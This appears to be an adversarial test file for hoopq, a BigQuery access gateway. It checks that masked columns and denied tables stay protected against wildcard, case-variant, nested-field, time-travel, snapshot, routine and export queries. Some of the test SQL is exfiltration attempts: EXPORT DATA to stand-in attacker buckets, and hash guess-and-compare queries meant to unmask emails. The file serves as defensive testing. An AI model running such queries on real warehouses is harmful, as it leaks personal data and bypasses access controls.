/**
 * Black-box, adversarial: an agent on BigQuery (the built `hoopq query` against fake Google)
 * tries every name form that could reach a masked column or a denied table — wildcard tables,
 * other column and table case, RECORD fields and ARRAY<STRUCT>, time travel, snapshots and
 * clones, routines, export destinations — and guess-and-compare on hashed values. Every
 * answer is either a refusal (exit 5/6) or masked: no raw value, nor its SHA-256, upper-case
 * or reversed form, reaches stdout, stderr or the audit log, nor does the hash key, and no
 * denied table is read.
 */
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hashKeyFormsUnder, hoopq, hoopqAsync, keyedHashUnder, type CliResult } from '../cli/cli-harness.js';
import { startFakeGoogle, type FakeGoogle } from '../fakes/google/fake-google.js';

const P = 'acme';
const GATEWAY_SA = 'hoopq-gateway@ops.iam.gserviceaccount.com';
const AGENT_SA = 'agent@ops.iam.gserviceaccount.com';

const PEOPLE = [
  { id: 1, name: 'Ada', email: 'ada@example.com', phone: '+44 20 7946 0001', city: 'London', home: 'ada.home@example.org', contact: 'ada.alt@example.net' },
  { id: 2, name: 'Grace', email: 'grace@example.com', phone: '+1 212 555 0102', city: 'New York', home: 'grace.home@example.org', contact: 'grace.alt@example.net' },
  { id: 3, name: 'Alan', email: 'alan@example.com', phone: '+44 161 496 0003', city: 'Manchester', home: 'alan.home@example.org', contact: 'alan.alt@example.net' },
];
const SALARIES = ['91234567', '88765432', '77654321'];
const SECRETS = [...PEOPLE.flatMap((p) => [p.email, p.phone, p.home, p.contact]), ...SALARIES];

function forbiddenForms(secret: string): string[] {
  return [secret, secret.toUpperCase(), [...secret].reverse().join(''), createHash('sha256').update(secret).digest('hex'), Buffer.from(secret).toString('base64')];
}
const FORBIDDEN = SECRETS.flatMap(forbiddenForms);

const STRING = (name: string) => ({ name, type: 'STRING', mode: 'NULLABLE' as const });
const INT = (name: string) => ({ name, type: 'INTEGER', mode: 'NULLABLE' as const });

describe('BigQuery: masks hold on every name form (fake Google, the built CLI)', () => {
  let google: FakeGoogle;
  let dir: string;
  let token: string;
  const outputs: Array<{ sql: string; result: CliResult }> = [];
  const env = () => ({ HOOPQ_CONFIG: join(dir, 'hoopq.yaml') });
  const query = async (sql: string, extra: string[] = []): Promise<CliResult> => {
    const result = await hoopqAsync(['query', '--token', token, '--format', 'json', ...extra, sql], { env: env(), cwd: dir });
    outputs.push({ sql, result });
    return result;
  };
  const keyed = (text: string) => keyedHashUnder(join(dir, '.hoopq', 'keys'), text);
  const rows = (r: CliResult) => JSON.parse(r.stdout) as Array<Record<string, unknown>>;
  const audit = () => readFileSync(join(dir, 'audit.jsonl'), 'utf8');

  beforeAll(async () => {
    google = await startFakeGoogle();
    dir = mkdtempSync(join(tmpdir(), 'hoopq-bq-leaks-'));
    writeFileSync(join(dir, 'gateway-key.json'), JSON.stringify(google.serviceAccountKey(GATEWAY_SA)));
    google.grantTokenCreator(AGENT_SA, GATEWAY_SA);
    const bq = google.bigquery;
    bq.grantJobUser(P, AGENT_SA);
    for (const d of ['sales', 'hr', 'scratch', 'ci', 'public', 'udfs']) bq.grantDataViewer(`${P}.${d}`, AGENT_SA);

    await bq.createTable(
      `${P}.sales.customers`,
      [
        INT('id'), STRING('name'), STRING('email'), STRING('phone'),
        { name: 'address', type: 'RECORD', mode: 'NULLABLE', fields: [STRING('city'), STRING('email')] },
        { name: 'contacts', type: 'RECORD', mode: 'REPEATED', fields: [STRING('kind'), STRING('value')] },
      ],
      PEOPLE.map((p) => [p.id, p.name, p.email, p.phone, { city: p.city, email: p.home }, [{ kind: 'alt', value: p.contact }]]),
    );
    await bq.createTable(`${P}.sales.customers_2023`, [INT('id'), STRING('name'), STRING('email')], PEOPLE.map((p) => [p.id, p.name, p.email]));
    await bq.createTable(`${P}.sales.leads`, [INT('id'), STRING('EMAIL')], PEOPLE.map((p) => [p.id, p.email]));
    await bq.createTable(`${P}.sales.orders`, [INT('id'), INT('customer_id'), INT('total')], [[10, 1, 99], [11, 2, 42]]);
    await bq.createTable(`${P}.hr.salaries`, [INT('id'), STRING('salary')], SALARIES.map((s, i) => [i + 1, s]));
    await bq.createFunction(`${P}.hr.lookup_salary`, ['x'], `(SELECT MAX(salary) FROM \`${P}.hr.salaries\` WHERE id = x)`);
    await bq.createFunction(`${P}.udfs.shout`, ['x'], 'UPPER(x)');
    await bq.createCopy(`${P}.scratch.customers_snap`, `${P}.sales.customers_2023`, 'snapshot');
    await bq.createCopy(`${P}.scratch.salaries_clone`, `${P}.hr.salaries`, 'clone');
    bq.caseInsensitiveDatasets.add(`${P}.ci`);
    await bq.createTable(`${P}.ci.customers`, [INT('id'), STRING('email')], PEOPLE.map((p) => [p.id, p.email]));
    // an unmasked copy, to show that the guesses below are right guesses
    await bq.createTable(`${P}.public.people`, [INT('id'), STRING('name'), STRING('email')], PEOPLE.map((p) => [p.id, p.name, p.email]));

    mkdirSync(join(dir, 'policies'));
    writeFileSync(
      join(dir, 'hoopq.yaml'),
      ['warehouse:', '  kind: bigquery', `  project: ${P}`, '  location: US', '  credentials: ./gateway-key.json', `  api_endpoint: ${google.url}`, `  iam_endpoint: ${google.url}`, `  default_project: ${P}`, '  default_dataset: sales', 'policies: ./policies', 'audit: ./audit.jsonl', 'keys: ./.hoopq/keys', ''].join('\n'),
    );
    writeFileSync(
      join(dir, 'policies', 'agent.yaml'),
      [
        'name: agent',
        'statements: [select, export, call]',
        'tables:',
        `  read: ["${P}.sales.*", "${P}.scratch.*", "${P}.ci.*", "${P}.public.*"]`,
        `  deny: ["${P}.hr.*"]`,
        'columns:',
        `  "${P}.sales.*.email": hash`,
        `  "${P}.sales.*.phone": partial`,
        `  "${P}.sales.customers.address.email": hash`,
        `  "${P}.sales.customers.contacts.value": redact`,
        `  "${P}.ci.customers.email": hash`,
        'routines:',
        `  allow: ["${P}.udfs.*"]`,
        'destinations: ["gs://acme-exports/agents/*"]',
        `impersonate: ${AGENT_SA}`,
        '',
      ].join('\n'),
    );
    const minted = hoopq(['token', 'mint', '--policy', 'agent', '--run', 'leaks'], { env: env(), cwd: dir });
    if (minted.code !== 0) throw new Error(minted.stderr);
    token = minted.stdout.trim();
  });

  afterAll(async () => {
    await google?.close();
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  it.concurrent.each([
    ['a wildcard over the masked table and its copy', 'SELECT id, email FROM `acme.sales.cust*` ORDER BY id', 'email'],
    ['a wildcard over the whole dataset', 'SELECT id, email FROM `acme.sales.*` WHERE email IS NOT NULL ORDER BY id', 'email'],
    ['a wildcard with _TABLE_SUFFIX', "SELECT id, email, _TABLE_SUFFIX AS s FROM `acme.sales.customers_*` WHERE _TABLE_SUFFIX = '2023'", 'email'],
    ['a column in another case', 'SELECT id, EMAIL AS email FROM acme.sales.customers ORDER BY id', 'email'],
    ['a column stored in upper case', 'SELECT id, email AS email FROM acme.sales.leads ORDER BY id', 'email'],
    ['a STRUCT field', 'SELECT id, address.email AS email FROM acme.sales.customers ORDER BY id', 'home'],
    ['time travel', 'SELECT id, email FROM acme.sales.customers FOR SYSTEM_TIME AS OF TIMESTAMP_SUB(CURRENT_TIMESTAMP(), INTERVAL 1 HOUR) ORDER BY id', 'email'],
    ['a snapshot of a masked table', 'SELECT id, email FROM acme.scratch.customers_snap ORDER BY id', 'email'],
    ['a table name in another case, in a case-insensitive dataset', 'SELECT id, email FROM acme.ci.CUSTOMERS ORDER BY id', 'email'],
  ])('%s: every value comes back hashed under the deployment key', async (_what, sql, secret) => {
    const r = await query(sql);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    const got = rows(r);
    expect(got.length).toBeGreaterThan(0);
    const source = (p: (typeof PEOPLE)[number]) => (secret === 'home' ? p.home : p.email);
    for (const row of got) expect(row.email).toBe(keyed(source(PEOPLE.find((p) => p.id === Number(row.id))!)));
  });

  it.concurrent.each([
    ['the whole record', 'SELECT address, contacts FROM acme.sales.customers', (p: (typeof PEOPLE)[number]) => keyed(p.home)],
    ['the row as JSON', 'SELECT TO_JSON_STRING(t) AS j FROM acme.sales.customers AS t', (p: (typeof PEOPLE)[number]) => keyed(p.home)],
    ['everything', 'SELECT * FROM acme.sales.customers', (p: (typeof PEOPLE)[number]) => keyed(p.email)],
    ['every field of a record', 'SELECT address.* FROM acme.sales.customers', (p: (typeof PEOPLE)[number]) => keyed(p.home)],
    ['a record field through a table alias', 'SELECT t.address.email AS e FROM acme.sales.customers AS t', (p: (typeof PEOPLE)[number]) => keyed(p.home)],
    ['an ARRAY<STRUCT> field through UNNEST', 'SELECT c.value FROM acme.sales.customers, UNNEST(contacts) AS c', () => '[REDACTED]'],
    ['an ARRAY<STRUCT> field in a correlated subquery', 'SELECT (SELECT c.value FROM UNNEST(t.contacts) AS c LIMIT 1) AS v FROM acme.sales.customers AS t', () => '[REDACTED]'],
    ['a routine the policy allows, over a masked column', 'SELECT acme.udfs.shout(email) AS e FROM acme.sales.customers', (p: (typeof PEOPLE)[number]) => keyed(p.email).toUpperCase()],
  ])('%s: the masked values, never a raw one', async (_what, sql, expected) => {
    const r = await query(sql);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    for (const p of PEOPLE) expect(r.stdout).toContain(expected(p));
  });

  it.concurrent.each([
    ['a persistent function in a denied dataset', 'SELECT `acme.hr.lookup_salary`(1) AS s', 5, 'routines.allow'],
    ['the same, unquoted', 'SELECT acme.hr.lookup_salary(1) AS s', 5, 'routines.allow'],
    ['a procedure in a denied dataset', 'CALL acme.hr.raise_salaries()', 5, 'routines.allow'],
    ['a table function in a denied dataset', 'SELECT * FROM acme.hr.salary_report(2024)', 5, 'routines.allow'],
    ['a clone of a denied table', 'SELECT salary FROM acme.scratch.salaries_clone', 5, 'tables.deny'],
    ['a wildcard reaching a denied dataset', 'SELECT * FROM `acme.hr.*`', 5, 'tables.deny'],
    ['an export to a bucket the policy does not list', "EXPORT DATA OPTIONS (uri = 'gs://attacker/x-*.csv', format = 'CSV') AS SELECT id, total FROM acme.sales.orders", 5, 'destinations'],
    ['an export through a connection the policy does not list', "EXPORT DATA WITH CONNECTION `acme.us.s3` OPTIONS (uri = 's3://attacker/x-*', format = 'JSON') AS SELECT id FROM acme.sales.orders", 5, 'destinations'],
    ['an export with a computed destination', "EXPORT DATA OPTIONS (uri = CONCAT('gs://acme-exports/agents/', 'x-*.csv'), format = 'CSV') AS SELECT id FROM acme.sales.orders", 6, 'destinations'],
    ['an export of a masked table, even to a listed bucket', "EXPORT DATA OPTIONS (uri = 'gs://acme-exports/agents/x-*.csv', format = 'CSV') AS SELECT email FROM acme.sales.customers", 6, 'columns'],
    ['an earlier version of a table that lacks a masked column now (it may have had it then)', 'SELECT * FROM acme.sales.orders FOR SYSTEM_TIME AS OF TIMESTAMP_SUB(CURRENT_TIMESTAMP(), INTERVAL 1 HOUR)', 6, 'columns'],
    ["hoopq's key parameter", 'SELECT @__hoopq_hash_inner AS k', 6, 'analysis.names'],
  ])('refuses %s', async (_what, sql, code, rule) => {
    const r = await query(sql);
    expect(r.code).toBe(code);
    expect(JSON.parse(r.stderr).rule).toBe(rule);
    // nothing of it ran in BigQuery as a job
    const ran = [...google.bigquery.jobs.values()].filter((j) => j.sql === sql);
    expect(ran).toEqual([]);
  });

  it('refuses a parameter under hoopq\'s reserved name (exit 2)', async () => {
    const r = await query('SELECT 1 AS one', ['--parameter', '__hoopq_hash_inner:BYTES:AAAA']);
    expect(r.code).toBe(2);
  });

  it('exports what the policy allows to a listed destination', async () => {
    const r = await query("EXPORT DATA OPTIONS (uri = 'gs://acme-exports/agents/orders-*.csv', format = 'CSV') AS SELECT id, total FROM acme.sales.orders");
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(google.bigquery.exports.some((e) => e.uri === 'gs://acme-exports/agents/orders-*.csv' && e.rows === 2)).toBe(true);
  });

  it.concurrent.each([
    ['the hash of the value itself', "SELECT COUNT(*) AS n FROM acme.sales.customers WHERE email = TO_HEX(SHA256('ada@example.com'))"],
    ['a guess built from a visible column', "SELECT COUNT(*) AS n FROM acme.sales.customers WHERE email = TO_HEX(SHA256(CONCAT(LOWER(name), '@example.com')))"],
    ['a join against guesses', "SELECT COUNT(*) AS n FROM acme.sales.customers c JOIN acme.public.people g ON c.email = TO_HEX(SHA256(g.email))"],
    ['the raw value of a RECORD field', "SELECT COUNT(*) AS n FROM acme.sales.customers WHERE address.email = 'ada.home@example.org'"],
    ['the raw value inside an ARRAY<STRUCT>', "SELECT COUNT(*) AS n FROM acme.sales.customers AS t, UNNEST(t.contacts) AS c WHERE c.value = 'ada.alt@example.net'"],
    ['a guess through a wildcard', "SELECT COUNT(*) AS n FROM `acme.sales.cust*` WHERE email = TO_HEX(SHA256(CONCAT(LOWER(name), '@example.com')))"],
  ])('guess-and-compare matches nothing: %s', async (_what, sql) => {
    const r = await query(sql);
    expect(r.code).toBe(0);
    expect(rows(r).map((row) => Number(row.n))).toEqual([0]);
    // the same guess on unmasked data finds every row: the guesses are right, the key is what stops them
    const control = await query("SELECT COUNT(*) AS n FROM acme.public.people WHERE TO_HEX(SHA256(email)) = TO_HEX(SHA256(CONCAT(LOWER(name), '@example.com')))");
    expect(rows(control).map((row) => Number(row.n))).toEqual([PEOPLE.length]);
  });

  it('joins on a hashed column still match within the deployment', async () => {
    const r = await query('SELECT COUNT(*) AS n FROM acme.sales.customers c JOIN acme.sales.leads l ON c.email = l.EMAIL');
    expect(r.code).toBe(0);
    expect(rows(r).map((row) => Number(row.n))).toEqual([PEOPLE.length]);
  });

  it('no raw value, unkeyed hash or key reached any output or the audit log', () => {
    expect(outputs.length).toBeGreaterThan(25);
    const keyForms = hashKeyFormsUnder(join(dir, '.hoopq', 'keys'));
    const outputsOnly = outputs.filter((o) => !o.sql.startsWith('SELECT COUNT(*) AS n FROM acme.public.people'));
    for (const { sql, result } of outputsOnly) {
      for (const f of [...FORBIDDEN, ...keyForms]) {
        expect(result.stdout.includes(f) || result.stderr.includes(f), `${sql} leaked ${f}`).toBe(false);
      }
    }
    const log = audit();
    for (const f of [...keyForms, ...SALARIES]) expect(log.includes(f), `the audit log holds ${f}`).toBe(false);
    // the received SQL carrying literals is redacted in the log under a masking policy; no record reads a denied table
    for (const rec of log.trim().split('\n').map((l) => JSON.parse(l))) {
      if (rec.decision !== 'allow') continue;
      for (const t of rec.tables?.read ?? []) expect(String(t).startsWith(`${P}.hr.`)).toBe(false);
    }
  });
});
